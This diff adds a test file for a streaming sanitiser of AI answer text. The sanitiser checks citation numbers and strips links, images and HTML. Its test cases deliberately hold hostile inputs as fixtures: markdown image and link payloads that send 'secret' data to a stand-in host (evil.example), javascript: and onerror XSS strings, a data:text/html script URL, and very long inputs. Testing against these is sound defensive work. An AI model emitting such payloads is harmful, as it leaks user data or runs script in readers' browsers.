@@ -1,0 +1,80 @@
+import { describe, expect, test } from "vitest";
+import { AnswerText, type Settled } from "../src/answer-text.ts";
+
+const PASSAGES = 3;
+
+async function read(pieces: readonly string[]): Promise<Settled> {
+  const text = new AnswerText((number) => number >= 1 && number <= PASSAGES);
+  const settled: Settled[] = [];
+  for (const piece of pieces) settled.push(await text.push(piece));
+  settled.push(await text.finish());
+  return {
+    text: settled.map((it) => it.text).join(""),
+    cited: settled.flatMap(({ cited }) => cited),
+    removed: settled.flatMap(({ removed }) => removed),
+  };
+}
+
+const CASES: readonly (readonly [said: string, shown: string, cited: readonly number[], removed: readonly string[]])[] =
+  [
+    ["Plain text, nothing else.", "Plain text, nothing else.", [], []],
+    ["Due on Friday [1].", "Due on Friday [1].", [1], []],
+    ["Both say so [1][3] and [2, 3].", "Both say so [1][3] and [2, 3].", [1, 3, 2, 3], []],
+    ["A range [1-3] too.", "A range [1, 2, 3] too.", [1, 2, 3], []],
+    ["Invented [9].", "Invented.", [], ["[9]"]],
+    ["Half [2, 17] true [0].", "Half [2] true.", [2], ["[17]", "[0]"]],
+    ["As a link [1](https://evil.example/?d=secret) it is.", "As a link [1] it is.", [1], []],
+    ["![pixel](https://evil.example/?d=secret) gone", "pixel gone", [], []],
+    ["[![a](http://x.example)](http://y.example)", "a", [], []],
+    ["[click me](javascript:alert(1)) now", "click me now", [], []],
+    ["[a][ref] and\n\n[ref]: https://evil.example", "a[ref] and\n\nref: `https://evil.example`", [], []],
+    ["<img src=x onerror=alert(1)>hello</p>", "hello", [], []],
+    ["<!-- hidden --><https://evil.example/x>", "`https://evil.example/x`", [], []],
+    [
+      "See https://evil.example/a?b=c, or www.evil.example.",
+      "See `https://evil.example/a?b=c`, or `www.evil.example`.",
+      [],
+      [],
+    ],
+    ["data:text/html,<script>x</script> stays text", "`data:text/html`,x stays text", [], []],
+    ["1 < 2 and a <b and [open", "1 < 2 and a < b and [open", [], []],
+    ["a list [x] and array[0]", "a list [x] and array", [], ["[0]"]],
+    ["nested [see [1] there] end", "nested [see [1] there] end", [1], []],
+    ["äöü 😀 [1] 😀", "äöü 😀 [1] 😀", [1], []],
+  ];
+
+describe("an answer", () => {
+  test.each(CASES)("%j is shown as %j", async (said, shown, cited, removed) => {
+    expect(await read([said])).toEqual({ text: shown, cited, removed });
+  });
+
+  test.each(CASES)("%j is the same wherever it is cut", async (said, shown, cited, removed) => {
+    expect(await read([...said])).toEqual({ text: shown, cited, removed });
+    for (let at = 1; at < said.length; at += 1) {
+      expect(await read([said.slice(0, at), said.slice(at)]), `cut at ${at}`).toEqual({ text: shown, cited, removed });
+    }
+  });
+
+  test("lets text out as it comes", async () => {
+    const text = new AnswerText(() => true);
+    expect((await text.push("The invoice is ")).text).toBe("The invoice is");
+    expect((await text.push("due [")).text).toBe(" due");
+    expect((await text.push("1")).text).toBe("");
+    expect(await text.push("] on Friday")).toMatchObject({ text: " [1] on", cited: [1] });
+    expect((await text.finish()).text).toBe(" Friday");
+  });
+
+  test("what is never closed is let out within a limit, and leads nowhere", async () => {
+    const long = `[${"x ".repeat(3_000)}](https://evil.example/?d=1) end`;
+    const { text } = await read(long.match(/.{1,100}/gs) ?? []);
+    expect(text).toContain("(`https://evil.example/?d=1`)");
+    expect(text.length).toBe(long.length + 2);
+  });
+
+  test("hostile lengths take no time to speak of", async () => {
+    for (const unit of ["[", "<a", "![", "[1](", "https://", "]("]) {
+      const { text } = await read([unit.repeat(100_000)]);
+      expect(text.length).toBeGreaterThan(0);
+    }
+  }, 30_000);
+});
